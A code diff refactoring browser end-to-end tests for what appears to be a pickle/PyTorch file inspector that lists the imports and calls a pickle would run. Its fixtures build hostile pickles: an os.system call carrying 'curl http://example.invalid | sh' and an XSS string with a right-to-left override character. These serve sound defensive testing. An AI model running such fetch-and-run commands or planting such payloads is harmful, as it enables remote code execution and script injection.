@@ -1,57 +1,48 @@
-import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
-import { tmpdir } from 'node:os';
+import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
-import type { Browser, Locator, Page } from 'playwright-core';
-import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import type { Locator, Page } from 'playwright-core';
+import { beforeAll, expect, it } from 'vitest';
 import { call, dense, dict, global, pickle, storage, text, torchFile } from '../support/torch-bytes.ts';
 import { joined, utf8 } from '../support/zip-bytes.ts';
 import { violations } from './support/axe.ts';
-import { chromiumPath, type LoupePage, launchBrowser, openPage } from './support/browser.ts';
+import { openPath } from './support/browser.ts';
 import { type CallGate, gateCalls } from './support/hold-calls.ts';
-import { openPath } from './support/open-path.ts';
-import { type Server, startServer } from './support/start-server.ts';
+import { describeInBrowser } from './support/in-browser.ts';
 
 const FOUR = new Uint8Array(Float32Array.of(1, 2, 3, 4).buffer);
 const HOSTILE = '<img src=x onerror=alert(1)>\u202e';
 
-describe.skipIf(chromiumPath === undefined)('what a pickle would run', () => {
-  let server: Server;
-  let browser: Browser;
-  let opened: LoupePage | undefined;
-  const folder = mkdtempSync(join(tmpdir(), 'loupe-e2e-'));
+describeInBrowser('what a pickle would run', ({ open, folder }) => {
   const evil = join(folder, 'evil.pt');
   const many = join(folder, 'many.pkl');
   const plain = join(folder, 'plain.pkl');
   const broken = join(folder, 'broken.pkl');
 
+  const listOf = (page: Page): Locator => page.getByRole('grid', { name: 'Imports and calls' });
   /** Opens a file and shows the list. */
-  const openList = async (path: string): Promise<{ page: Page; list: Locator; panel: Locator }> => {
-    opened = await openPage(browser, server.url);
-    const { page } = opened;
+  const openList = async (path: string): Promise<{ page: Page; list: Locator }> => {
+    const { page } = await open();
     await openPath(page, path);
     await page.getByRole('tab', { name: /^Pickle/ }).click();
-    return {
-      page,
-      list: page.getByRole('grid', { name: 'Imports and calls' }),
-      panel: page.locator('[data-area="bottom"]'),
-    };
+    return { page, list: listOf(page) };
   };
   const rows = (list: Locator): Promise<readonly string[]> => list.locator('[data-event]').allTextContents();
 
   /** The same with a gate in the connection. */
-  const openGated = async (path: string, gate: (gate: CallGate) => void) => {
-    opened = await openPage(browser, server.url);
-    const { page } = opened;
-    const calls = await gateCalls(page);
-    await page.reload();
-    await page.locator('.start').waitFor();
-    gate(calls);
+  const openGated = async (path: string, fate: (gate: CallGate) => void) => {
+    const gates: CallGate[] = [];
+    const { page } = await open({ prepare: async (fresh) => gates.push(await gateCalls(fresh)) });
+    const [gate] = gates;
+    if (gate === undefined) {
+      throw new Error('the page was not prepared');
+    }
+    fate(gate);
     await openPath(page, path);
     await page.getByRole('tab', { name: /^Pickle/ }).click();
-    return { page, calls, list: page.getByRole('grid', { name: 'Imports and calls' }) };
+    return { page, gate, list: listOf(page) };
   };
 
-  beforeAll(async () => {
+  beforeAll(() => {
     const odd = call(global('mine', HOSTILE), text(HOSTILE));
     const system = call(global('os', 'system'), text('curl http://example.invalid | sh'));
     const weights = dense(storage('FloatStorage', '0', 4), [2, 2]);
@@ -65,18 +56,6 @@ describe.skipIf(chromiumPath === undefined)('what a pickle would run', () => {
     );
     writeFileSync(plain, pickle(dict([text('epoch'), text('three')])));
     writeFileSync(broken, joined(Uint8Array.of(0x80, 2), global('os', 'system'), utf8('0'), Uint8Array.of(0xff)));
-    [server, browser] = await Promise.all([startServer(), launchBrowser()]);
-  });
-  afterEach(async () => {
-    const complaints = opened?.complaints ?? [];
-    await opened?.context.close();
-    opened = undefined;
-    expect(complaints).toEqual([]);
-  });
-  afterAll(async () => {
-    await browser?.close();
-    await server?.stop();
-    rmSync(folder, { recursive: true, force: true });
   });
 
   it('lists what matters first, and the rest by a switch', async () => {
@@ -112,12 +91,11 @@ describe.skipIf(chromiumPath === undefined)('what a pickle would run', () => {
   });
 
   it('is reached from a finding, by mouse and by key', async () => {
-    opened = await openPage(browser, server.url);
-    const { page } = opened;
+    const { page } = await open();
     await openPath(page, evil);
     const finding = page.locator('.finding-row[data-code="pickle-dangerous-call"]');
     await finding.locator('[data-jump]').click();
-    const list = page.getByRole('grid', { name: 'Imports and calls' });
+    const list = listOf(page);
     await list.locator('[aria-selected="true"]', { hasText: /^DangerCallos\.system/ }).waitFor();
     await expect.poll(() => list.evaluate((element) => element === document.activeElement)).toBe(true);
 
@@ -159,38 +137,36 @@ describe.skipIf(chromiumPath === undefined)('what a pickle would run', () => {
   });
 
   it('shows a skeleton while it waits, and an error that can be tried again', async () => {
-    const { page, calls, list } = await openGated(evil, (gate) => gate.set('pickles', 'hold'));
+    const { page, gate, list } = await openGated(evil, (calls) => calls.set('pickles', 'hold'));
     await page.getByRole('status').filter({ hasText: 'Listing what the pickles would run' }).waitFor();
-    calls.set('pickleEvents', 'fail');
-    calls.set('pickles', 'pass');
+    gate.set('pickleEvents', 'fail');
+    gate.set('pickles', 'pass');
     await page.getByText('The imports and calls could not be read').waitFor();
-    calls.set('pickleEvents', 'pass');
+    gate.set('pickleEvents', 'pass');
     await page.getByRole('button', { name: 'Try again' }).click();
     await list.getByText('os.system').first().waitFor();
   });
 
   it('says what failed when the pickles cannot be listed at all', async () => {
-    const { page, calls, list } = await openGated(evil, (gate) => gate.set('pickles', 'fail'));
+    const { page, gate, list } = await openGated(evil, (calls) => calls.set('pickles', 'fail'));
     await page.getByRole('alert').filter({ hasText: 'The pickles could not be listed' }).waitFor();
-    calls.set('pickles', 'pass');
+    gate.set('pickles', 'pass');
     await page.getByRole('button', { name: 'Try again' }).click();
     await list.getByText('os.system').first().waitFor();
   });
 
   it('has no place in the window for a file without pickles', async () => {
-    opened = await openPage(browser, server.url);
-    const { page } = opened;
+    const { page } = await open();
     await page.getByRole('button', { name: 'Try the sample' }).click();
     await page.getByRole('tab', { name: /^Metadata/ }).waitFor();
     expect(await page.getByRole('tab', { name: /^Pickle/ }).count()).toBe(0);
   });
 
   it.each(['light', 'dark'] as const)('axe finds nothing in the %s theme', async (colorScheme) => {
-    opened = await openPage(browser, server.url, { colorScheme });
-    const { page } = opened;
+    const { page } = await open({ colorScheme });
     await openPath(page, evil);
     await page.getByRole('tab', { name: /^Pickle/ }).click();
-    const list = page.getByRole('grid', { name: 'Imports and calls' });
+    const list = listOf(page);
     await list.locator('[data-event]').first().click();
     expect(await violations(page, colorScheme)).toEqual([]);
     await page.getByRole('tab', { name: /^Findings/ }).click();
